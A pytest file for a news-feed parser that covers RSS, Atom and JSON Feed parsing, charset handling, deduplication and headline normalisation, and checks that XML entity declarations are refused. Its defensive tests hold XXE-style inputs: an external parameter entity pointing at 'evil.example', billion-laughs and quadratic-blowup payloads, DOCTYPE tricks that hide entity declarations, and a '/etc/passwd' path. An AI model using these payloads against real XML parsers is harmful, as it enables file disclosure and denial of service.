"""parse_feed on hand-written fixtures (tests/data/feeds/) and inline documents; title_key."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from mediawatch.collect.feeds import MAX_SUMMARY_CHARS, ParsedFeed, html_to_text, parse_feed
from mediawatch.errors import ParseError
from mediawatch.identity import title_key
from mediawatch.types import FetchStatus

DATA = Path(__file__).parent / "data" / "feeds"
FEED_URL = "https://www.example.fr/rss/une.xml"


def parse_file(name: str, url: str = FEED_URL, content_type: str = "", **kwargs: int) -> ParsedFeed:
    return parse_feed((DATA / name).read_bytes(), url, content_type, **kwargs)


def refused(body: bytes, url: str = FEED_URL, content_type: str = "") -> ParseError:
    with pytest.raises(ParseError) as info:
        parse_feed(body, url, content_type)
    assert info.value.url == url
    return info.value


def rss(items: str, extra_channel: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>T</title>'
        f"<link>https://site.example/</link>{extra_channel}{items}</channel></rss>"
    ).encode()


# --- RSS -----------------------------------------------------------------------------------------


def test_rss_feed_metadata() -> None:
    feed = parse_file("rss_basic.xml")
    assert feed.title == "Le Journal & Co"
    assert feed.link == "https://www.example.fr/"
    assert feed.language == "fr-fr"


def test_rss_entry_fields() -> None:
    first = parse_file("rss_basic.xml").entries[0]
    assert first.url == "https://www.example.fr/politique/2024/03/15/reforme-retraites?id=42"
    assert first.raw_url == (
        "https://www.example.fr/politique/2024/03/15/reforme-retraites?utm_source=rss&utm_medium=feed&id=42"
    )
    assert first.title == "Réforme des retraites : le Sénat adopte le texte"
    assert first.summary == "Le texte a été adopté vendredi soir."  # tags, script and &nbsp; gone
    assert first.author == "Marie Dupont"
    assert first.published == datetime(2024, 3, 15, 17, 30, tzinfo=UTC)
    assert first.guid == "art-1"


def test_rss_dedup_skip_and_guid_permalink() -> None:
    feed = parse_file("rss_basic.xml")
    assert [e.url for e in feed.entries] == [
        "https://www.example.fr/politique/2024/03/15/reforme-retraites?id=42",
        "https://www.example.fr/meteo/week-end-ensoleille",  # link taken from the permalink guid
    ]
    meteo = feed.entries[1]
    assert meteo.published == datetime(2024, 3, 16, 7, 0, tzinfo=UTC)  # dc:date
    assert meteo.guid == "https://www.example.fr/meteo/week-end-ensoleille"
    assert "2 entries without a usable http(s) link skipped" in feed.warnings  # no link; javascript:
    assert "1 duplicate entry (same canonical URL) dropped" in feed.warnings


def test_rss_relative_links_resolve_against_the_feed_url() -> None:
    feed = parse_feed(rss("<item><title>a</title><link>../politique/a.html</link></item>"), FEED_URL)
    assert feed.entries[0].url == "https://www.example.fr/politique/a.html"
    assert feed.entries[0].raw_url == "https://www.example.fr/politique/a.html"


def test_netscape_rss091_doctype_parses_and_latin1_is_decoded() -> None:
    feed = parse_file("rss091_netscape.xml", url="http://cafe.example.com/rss")
    assert feed.title == "Café du Commerce"
    assert [(e.title, e.summary) for e in feed.entries] == [("L'été arrive", "Prévisions & terrasses.")]
    assert feed.warnings == ()


def test_http_charset_is_considered() -> None:
    body = rss("<item><title>Caf\xe9</title><link>https://site.example/a</link></item>").replace(
        b"utf-8", b"iso-8859-1"
    )
    body = body.decode().encode("latin-1")
    assert parse_feed(body, FEED_URL).entries[0].title == "Café"  # declaration
    no_decl = body.replace(b'<?xml version="1.0" encoding="iso-8859-1"?>', b"")
    feed = parse_feed(no_decl, FEED_URL, "application/rss+xml; charset=ISO-8859-1")
    assert feed.entries[0].title == "Café"  # HTTP header


def test_http_charset_overridden_when_wrong_gives_a_warning() -> None:
    body = rss("<item><title>Café</title><link>https://site.example/a</link></item>")
    feed = parse_feed(body, FEED_URL, "text/xml; charset=us-ascii")
    assert feed.entries[0].title == "Café"
    assert any("character encoding" in w for w in feed.warnings)


def test_summary_is_capped_and_plain() -> None:
    long_text = "<p>" + " ".join(f"mot{i}" for i in range(2000)) + "</p>"
    body = rss(
        f"<item><link>https://site.example/a</link><description><![CDATA[{long_text}]]></description></item>"
    )
    summary = parse_feed(body, FEED_URL).entries[0].summary
    assert len(summary) <= MAX_SUMMARY_CHARS
    assert summary.endswith("…")
    assert "<" not in summary


def test_summary_falls_back_to_content() -> None:
    body = rss(
        '<item xmlns:content="http://purl.org/rss/1.0/modules/content/"><link>https://site.example/a</link>'
        "<content:encoded><![CDATA[<p>Full <b>text</b></p>]]></content:encoded></item>"
    )
    assert parse_feed(body, FEED_URL).entries[0].summary == "Full text"


def test_double_escaped_entities_in_titles() -> None:
    body = rss(
        "<item><title>L&amp;#8217;&amp;eacute;t&amp;eacute; &amp;amp; co</title><link>https://s.example/a</link></item>"
    )
    assert parse_feed(body, FEED_URL).entries[0].title == "L’été & co"


def test_max_entries_and_truncation_warning() -> None:
    items = "".join(f"<item><link>https://site.example/{i}</link></item>" for i in range(10))
    feed = parse_feed(rss(items), FEED_URL, max_entries=3)
    assert [e.url for e in feed.entries] == [f"https://site.example/{i}" for i in range(3)]
    assert "feed truncated to the first 3 entries" in feed.warnings
    exact = parse_feed(rss(items), FEED_URL, max_entries=10)
    assert len(exact.entries) == 10
    assert not any("truncated" in w for w in exact.warnings)


def test_duplicates_beyond_the_limit_do_not_count_as_truncation() -> None:
    items = "".join("<item><link>https://site.example/same?utm_source=x</link></item>" for _ in range(4))
    feed = parse_feed(rss(items), FEED_URL, max_entries=1)
    assert len(feed.entries) == 1
    assert not any("truncated" in w for w in feed.warnings)


def test_news_search_redirect_links_are_unwrapped() -> None:
    bing = (
        "http://www.bing.com/news/apiclick.aspx?ref=FexRss&amp;aid=&amp;tid=X"
        "&amp;url=https%3a%2f%2fwww.example.com%2fnews%2farticle%3futm_source%3dbing&amp;c=1"
    )
    feed = parse_feed(
        rss(f"<item><title>t</title><link>{bing}</link></item>"), "https://www.bing.com/news/search"
    )
    entry = feed.entries[0]
    assert entry.url == "https://www.example.com/news/article"
    assert entry.raw_url.startswith("http://www.bing.com/news/apiclick.aspx")


def test_entry_without_date_has_none() -> None:
    feed = parse_feed(
        rss("<item><link>https://site.example/a</link><pubDate>not a date</pubDate></item>"), FEED_URL
    )
    assert feed.entries[0].published is None


# --- Atom ----------------------------------------------------------------------------------------


def test_atom_feed() -> None:
    feed = parse_file("atom_basic.xml", url="https://noticias.example.es/feed.atom")
    assert feed.title == "El Diario Digital"
    assert feed.language == "es"
    first, second = feed.entries
    assert first.url == "https://noticias.example.es/internacional/incendios-chile"  # xml:base, not enclosure
    assert first.title == "Incendios en Chile: ¿qué pasó en Viña del Mar?"
    assert first.summary == "Los bomberos & la población…"
    assert first.author == "Ana García"
    assert first.published == datetime(2024, 3, 15, 8, 15, tzinfo=UTC)  # published beats updated
    assert first.guid == "tag:noticias.example.es,2024:1"
    assert second.published == datetime(2024, 3, 14, 8, 0, tzinfo=UTC)  # updated when no published
    assert second.summary == "Texto completo."


# --- JSON Feed -----------------------------------------------------------------------------------


def test_json_feed() -> None:
    feed = parse_file(
        "json_feed.json", url="https://blog.example.org/feed.json", content_type="application/feed+json"
    )
    assert (feed.title, feed.link, feed.language) == ("Blog & Notes", "https://blog.example.org/", "en-gb")
    first, second, third = feed.entries
    assert first.url == "https://blog.example.org/2024/03/15/first-post/"
    assert first.title == "First post"
    assert first.summary == "Hello world"
    assert first.author == "Jane Roe"
    assert first.published == datetime(2024, 3, 15, 8, 0, tzinfo=UTC)
    assert first.guid == "1"
    assert second.url == "https://blog.example.org/second"  # id used as link
    assert second.author == "Feed Author"  # inherited
    assert second.published == datetime(2024, 3, 16, 8, 0, tzinfo=UTC)  # date_modified
    assert third.url == "https://elsewhere.example.com/linked"  # external_url
    assert third.summary == "Summary wins over content."
    assert "2 entries without a usable http(s) link skipped" in feed.warnings


def test_json_feed_lenient_version_and_limits() -> None:
    doc = {"version": "1.1", "items": [{"id": str(i), "url": f"https://j.example/{i}"} for i in range(5)]}
    feed = parse_feed(json.dumps(doc).encode(), "https://j.example/feed.json", max_entries=2)
    assert [e.url for e in feed.entries] == ["https://j.example/0", "https://j.example/1"]
    assert "feed truncated to the first 2 entries" in feed.warnings


@pytest.mark.parametrize(
    "body",
    [
        b'{"name": "an API answer", "items": [1, 2]}',
        b"[1, 2, 3]",
        b'{"version": "2.0", "items": []}',
        b"{broken",
    ],
)
def test_json_that_is_not_a_json_feed(body: bytes) -> None:
    assert refused(body, content_type="application/json").status is FetchStatus.NOT_A_FEED


def test_broken_json_feed_is_a_parse_error() -> None:
    body = b'{"version": "https://jsonfeed.org/version/1", "items": [{"url": "https://x.example/"},'
    assert refused(body).status is FetchStatus.PARSE_ERROR


# --- classification ------------------------------------------------------------------------------


def test_empty_feed_is_returned_not_raised() -> None:
    feed = parse_file("empty_channel.xml")
    assert feed.entries == ()
    assert feed.title == "Quiet Source"


def test_recoverable_bozo_keeps_entries_with_a_warning() -> None:
    feed = parse_file("mismatched.xml")
    assert [e.title for e in feed.entries] == ["First édition", "Second"]
    assert feed.warnings
    assert feed.warnings[0].startswith("XML error at line 5")


def test_truncated_feed_without_entries_is_a_parse_error() -> None:
    error = refused((DATA / "truncated.xml").read_bytes())
    assert error.status is FetchStatus.PARSE_ERROR
    assert "XML error at line" in error.detail


def test_html_entity_only_problem_in_an_empty_feed_is_empty_not_broken() -> None:
    feed = parse_feed(rss("", extra_channel="<description>caf&eacute;&nbsp;</description>"), FEED_URL)
    assert feed.entries == ()
    assert any("undefined entity" in w for w in feed.warnings)


@pytest.mark.parametrize(
    ("body", "hint"),
    [
        ((DATA / "not_a_feed.html").read_bytes(), "HTML"),
        (b"<html><body><item>x</item><entry>y</entry></body></html>", "HTML"),
        (b'<?xml version="1.0"?><catalog><book><title>t</title></book></catalog>', "<catalog>"),
        (b"Just some text, no markup at all.", "text"),
        (b"", "empty"),
        (b"   \n\t ", "empty"),
        (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", ""),  # a gzip body nobody decompressed
        (b"<!-- only a comment -->", "markup"),
    ],
)
def test_not_a_feed(body: bytes, hint: str) -> None:
    error = refused(body)
    assert error.status is FetchStatus.NOT_A_FEED
    assert hint in error.detail


def test_bytes_are_never_opened_or_fetched() -> None:
    # feedparser given bytes would treat them as a path or URL; parse_feed must not let it.
    for body in (b"/etc/passwd", b"http://127.0.0.1:9/feed.xml", str(DATA / "rss_basic.xml").encode()):
        assert refused(body).status is FetchStatus.NOT_A_FEED


# --- refusing entity declarations ----------------------------------------------------------------


@pytest.mark.parametrize("name", ["billion_laughs.xml", "external_entity.xml"])
def test_entity_declarations_are_refused(name: str) -> None:
    error = refused((DATA / name).read_bytes())
    assert error.status is FetchStatus.PARSE_ERROR
    assert error.detail.startswith("XML entity declarations are refused")


def test_quadratic_blowup_is_refused_cheaply() -> None:
    big = "A" * 50_000
    body = (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{big}">]><rss version="2.0"><channel>'
        + "<item><title>"
        + "&a;" * 20_000
        + "</title><link>https://x.example/</link></item></channel></rss>"
    ).encode()
    assert refused(body).detail.startswith("XML entity declarations are refused")


def test_parameter_entities_and_utf16_are_refused_too() -> None:
    body = (
        '<?xml version="1.0" encoding="utf-16"?>'
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>'
    )
    assert refused(body.encode("utf-16")).status is FetchStatus.PARSE_ERROR
    assert refused(body.encode("utf-16-be")).status is FetchStatus.PARSE_ERROR


def test_entity_declaration_after_a_decoy_comment_is_refused() -> None:
    body = b'<?xml version="1.0"?><!-- <rss> --><!DOCTYPE rss [<!ENTITY x "y">]><rss version="2.0"/>'
    assert refused(body).status is FetchStatus.PARSE_ERROR


def test_entity_declarations_hidden_beyond_a_huge_prolog_are_refused() -> None:
    padding = b"<!-- " + b"x" * 70_000 + b" -->"
    body = b'<?xml version="1.0"?>' + padding + b'<!DOCTYPE rss [<!ENTITY x "y">]><rss version="2.0"/>'
    error = refused(body)
    assert error.status is FetchStatus.PARSE_ERROR
    assert "prolog longer than 64 KB" in error.detail


def test_a_long_comment_inside_the_window_is_fine() -> None:
    body = rss("<item><link>https://s.example/a</link></item>").replace(
        b"<rss", b"<!-- " + b"x" * 30_000 + b" --><rss", 1
    )
    assert len(parse_feed(body, FEED_URL).entries) == 1


def test_doctype_without_internal_subset_is_accepted() -> None:
    body = (
        b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
        b'<rss version="0.91"><channel><title>t</title><link>https://s.example/</link>'
        b"<item><title>a</title><link>https://s.example/a</link></item></channel></rss>"
    )
    assert len(parse_feed(body, FEED_URL).entries) == 1


def test_internal_subset_without_entities_is_refused_too() -> None:
    # Any internal subset is refused: a scanner that looked for entity declarations in it was fooled
    # by a comment holding "]" (issue 12); no real feed needs a subset.
    body = rss("<item><link>https://s.example/a</link></item>").replace(
        b"<rss", b'<!DOCTYPE rss [ <!ELEMENT rss ANY> <!-- "ENTITY" in a comment is fine --> ]><rss', 1
    )
    assert "internal DTD subsets are refused" in refused(body).detail


# --- html_to_text --------------------------------------------------------------------------------


def test_html_to_text() -> None:
    assert html_to_text("<p>a<br>b</p><p>c&amp;d&nbsp;e</p><style>p{}</style>") == "a b c&d e"
    assert html_to_text("x < y and z > w") == "x < y and z > w"
    assert html_to_text("") == ""
    assert html_to_text("word " * 10, limit=12) == "word word…"


# --- title_key -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("a", "b"),
    [
        (
            "Réforme des retraites : le Sénat adopte le texte - Le Monde",
            "REFORME DES RETRAITES: le senat adopte le texte",
        ),
        (
            "Réforme des retraites : le Sénat adopte le texte | Libération",
            "Réforme des retraites - le Sénat adopte le texte",
        ),
        (
            "L’État annonce un plan pour l’hôpital public",
            "L'Etat annonce un plan pour l'hôpital public — France 24",
        ),
        (
            "Incendios en Chile: ¿qué pasó en Viña del Mar? | EL PAÍS",
            "Incendios en Chile ¿Que paso en Vina del Mar?",
        ),
        (
            "España: el Gobierno aprueba la reforma laboral – El Mundo",
            "Espana: el gobierno aprueba la reforma laboral",
        ),
        (
            "Fed holds rates steady, signals cuts later this year | Reuters",
            "Fed holds rates steady, signals cuts later this year",
        ),
        ("Ｆｕｌｌ－ｗｉｄｔｈ　ｔｉｔｌｅ ｗｉｔｈ ｍａｎｙ ｗｏｒｄｓ", "Full-width title with many words"),
    ],
)
def test_title_key_equal_for_the_same_headline(a: str, b: str) -> None:
    assert title_key(a) == title_key(b) != ""


def test_title_key_strips_up_to_two_outlet_suffixes() -> None:
    key = title_key("Macron dissout l'Assemblée nationale après les européennes - Politique - Le Monde")
    assert key == "macron dissout l assemblee nationale apres les europeennes"


def test_title_key_does_not_strip_a_long_tail() -> None:
    title = "Brexit - what the new trade agreement means for fishermen and farmers in Scotland"
    assert (
        title_key(title) == "brexit what the new trade agreement means for fishermen and farmers in scotland"
    )


def test_title_key_keeps_distinct_headlines_distinct() -> None:
    assert title_key("Le Sénat adopte la réforme des retraites") != title_key(
        "Le Sénat rejette la réforme des retraites"
    )


@pytest.mark.parametrize(
    "title",
    [
        "",
        "Live",
        "Breaking news",
        "Météo du jour - Le Monde",
        "Short one here",
        "Un deux trois",
        "A b c d e f g",
    ],
)
def test_title_key_too_short_is_empty(title: str) -> None:
    assert title_key(title) == ""


def test_title_key_cjk_counts_characters_as_words() -> None:
    assert title_key("日本銀行が金融政策の据え置きを決定") == "日本銀行が金融政策の据え置きを決定"
    assert title_key("日本銀行") == ""


# --- news-search feeds: credit the publisher the item names ------------------------------------------


def test_news_search_items_name_their_publisher_without_echoes() -> None:
    feed = parse_file("news_search.xml", "https://news.google.com/rss/search?q=%224+pour+1000%22")
    first, second, third, fourth = feed.entries
    assert (first.publisher, first.publisher_url) == ("Ouest-France", "https://www.ouest-france.fr")
    assert first.title == "Le carbone des sols progresse en Bretagne"  # " - Ouest-France" left the title
    assert first.summary == ""  # the description only repeated the title and the publisher
    assert (second.publisher, second.title) == (
        "Le Télégramme",
        "Le carbone des sols progresse en Bretagne, selon l'Inrae",
    )
    assert third.publisher == "Le Monde"
    assert third.title == "L'initiative 4 pour 1000 au menu de la COP"
    # no <source>: parse_feed cannot know the suffix is a publisher; the collector reads it for news-search
    assert fourth.publisher == ""
    assert fourth.title.endswith(" - La Dépêche du Midi")
    assert fourth.summary.startswith("Dans le Gers, vingt exploitations")


def test_an_ordinary_title_with_a_dash_keeps_it() -> None:
    feed = parse_feed(rss("<item><title>Climat - les faits</title><link>https://site.example/a</link>"
                          "<description>Climat - les faits</description></item>"), FEED_URL)  # fmt: skip
    [entry] = feed.entries
    assert (entry.title, entry.publisher) == ("Climat - les faits", "")
    assert entry.summary == ""  # a summary that only repeats the title says nothing


# -- DOCTYPE tricks (issue 12 item 5): no internal subset gets through, no entity is ever expanded ------
_TAIL = (
    b"<rss version='2.0'><channel><title>t</title><item><title>a &x; b</title>"
    b"<link>http://example.org/a</link><description>&x;</description></item></channel></rss>"
)
DOCTYPE_TRICKS = {
    "comment-hides-bracket": b'<!DOCTYPE rss [<!-- ] --><!ENTITY x "EXPANDED">]>',
    "after-xml-declaration": b'<?xml version="1.0"?>\n<!DOCTYPE rss [<!-- ] --><!ENTITY x "X">]>',
    "pi-hides-bracket": b'<!DOCTYPE rss [<?pi ]>?><!ENTITY x "EXPANDED">]>',
    "attlist-default-hides-bracket": b'<!DOCTYPE rss [<!ATTLIST rss a CDATA "]>"><!ENTITY x "EXPANDED">]>',
    "entity-value-hides-bracket": b'<!DOCTYPE rss [<!ENTITY y "]>"><!ENTITY x "EXPANDED">]>',
    "parameter-entity": b"<!DOCTYPE rss [<!ENTITY % p \"<!ENTITY x 'EXPANDED'>\"> %p;]>",
    "lower-case-keyword": b'<!doctype rss [<!entity x "EXPANDED">]>',
    "system-id-then-subset": b'<!DOCTYPE rss SYSTEM "http://example.org/a.dtd" [<!ENTITY x "EXPANDED">]>',
    "public-id-with-bracket": b'<!DOCTYPE rss PUBLIC "-//[//EN" "x.dtd" [<!ENTITY x "EXPANDED">]>',
    "empty-subset": b"<!DOCTYPE rss []>",
    "subset-with-only-a-comment": b"<!DOCTYPE rss [<!-- nothing -->]>",
    "newlines-inside": b'<!DOCTYPE\nrss\n[\n<!ENTITY\nx\n"EXPANDED"\n>\n]\n>',
    "bom-then-doctype": b'\xef\xbb\xbf<!DOCTYPE rss [<!-- ] --><!ENTITY x "EXPANDED">]>',
    "utf16-bom": '\ufeff<!DOCTYPE rss [<!-- ] --><!ENTITY x "EXPANDED">]>'.encode("utf-16-le"),
}


@pytest.mark.parametrize("name", sorted(DOCTYPE_TRICKS))
def test_doctype_tricks_are_refused_and_nothing_is_expanded(name: str) -> None:
    prolog = DOCTYPE_TRICKS[name]
    body = prolog + (_TAIL.decode().encode("utf-16-le") if name == "utf16-bom" else _TAIL)
    error = refused(body)
    assert error.status is FetchStatus.PARSE_ERROR, name
    assert "EXPANDED" not in error.detail


def test_the_parser_itself_refuses_entity_declarations() -> None:
    # Second line of defence: were the prolog scanner fooled, feedparser's SAX parser is defusedxml's.
    import io

    import feedparser
    from defusedxml import EntitiesForbidden

    body = b'<!DOCTYPE rss [\n<!ENTITY x "EXPANDED">\n]>\n' + _TAIL
    with pytest.raises(EntitiesForbidden):
        feedparser.parse(io.BytesIO(body))


def test_external_doctype_without_subset_is_still_accepted() -> None:
    body = (
        b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel><title>T</title>'
        b"<item><title>An item of an old RSS 0.91 feed</title><link>http://example.org/a</link></item>"
        b"</channel></rss>"
    )
    assert len(parse_feed(body, FEED_URL).entries) == 1
